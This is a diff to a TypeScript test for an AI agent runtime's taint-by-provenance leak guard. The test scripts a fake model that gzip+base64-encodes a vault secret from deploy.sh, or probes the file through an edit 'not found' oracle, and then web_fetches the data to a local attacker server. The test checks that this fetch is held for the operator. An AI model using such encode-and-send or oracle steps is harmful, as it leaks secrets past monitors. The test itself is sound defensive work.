@@ -2,7 +2,8 @@
  * L08.1 by provenance through the real daemon: a vault value sits in a workspace file; the model reads it through
  * exec as gzip+base64, a form no leak index knows, so L23 replaces nothing. The session is tainted anyway (its run
  * could read the workspace), and its web_fetch of that output to an allowed but untrusted loopback host waits for
- * the operator; denied, nothing is sent. The same run over a workspace without vault values taints nothing.
+ * the operator; denied, nothing is sent. The same run over a workspace without vault values taints nothing. An
+ * edit that only answers "not found" on that file taints a session likewise.
  */
 import { randomBytes } from 'node:crypto';
 import { createServer } from 'node:http';
@@ -36,12 +37,22 @@ async function attacker() {
 }
 
 describe('L08.1 taint by provenance', () => {
-  it('taints a session whose exec run could read a vault value, so its fetch of the gzip+base64 is held; a clean workspace does not', async () => {
+  it('taints a session whose exec run could read a vault value, so its fetch of the gzip+base64 is held; a clean workspace does not; an edit probe taints too', async () => {
     const secret = `sk_live_${randomBytes(24).toString('base64url').replace(/[-_]/g, 'x')}`;
     const other = `sk_live_${randomBytes(24).toString('base64url').replace(/[-_]/g, 'y')}`;
     const atk = await attacker();
+    // Text that decodes to a candidate, not a secret format (that would taint the session as model output).
+    const probeData = Buffer.from(`notes ${randomBytes(18).toString('base64url')}`).toString('hex');
     const script = (req: FakeRequest): FakeReply => {
       const tools = req.messages.filter((m) => m.role === 'tool').map((m) => String(m.content));
+      const user = JSON.stringify(req.messages.find((m) => m.role === 'user') ?? {});
+      if (user.includes('probe')) {
+        // edit as an oracle: "not found" says something about the file's content without showing it.
+        if (tools.length === 0)
+          return reply.toolCall('edit', { path: 'deploy.sh', old_string: 'sk_live_4eCZ', new_string: 'x' });
+        if (tools.length === 1) return reply.toolCall('web_fetch', { url: `${atk.url}/p?d=${probeData}` });
+        return reply.text('done');
+      }
       if (tools.length === 0) return reply.toolCall('exec', { command: 'gzip -c deploy.sh | base64 -w0' });
       if (tools.length === 1) {
         const gz = /stdout:\n(\S+)/.exec(tools[0] ?? '')?.[1] ?? 'none';
@@ -93,5 +104,15 @@ describe('L08.1 taint by provenance', () => {
       ['L08.1', 'held', '127.0.0.1'],
       ['L08.1', 'denied', '127.0.0.1'],
     ]);
+
+    // A fresh session that only probes the file with edit: tainted all the same, its fetch is held.
+    const probe = chat(e2e, 'probe deploy.sh');
+    const held = await nextApproval(e2e, 30_000);
+    expect(held.view.reasons.join('\n')).toContain(
+      'this session has seen secret material: edit read deploy.sh, which holds the value of STRIPE_KEY',
+    );
+    expect((await decide(e2e, held.id, 'deny')).status).toBe(200);
+    expect(await probe).toBe(200);
+    expect(atk.hits).toHaveLength(1);
   }, 60_000);
 });
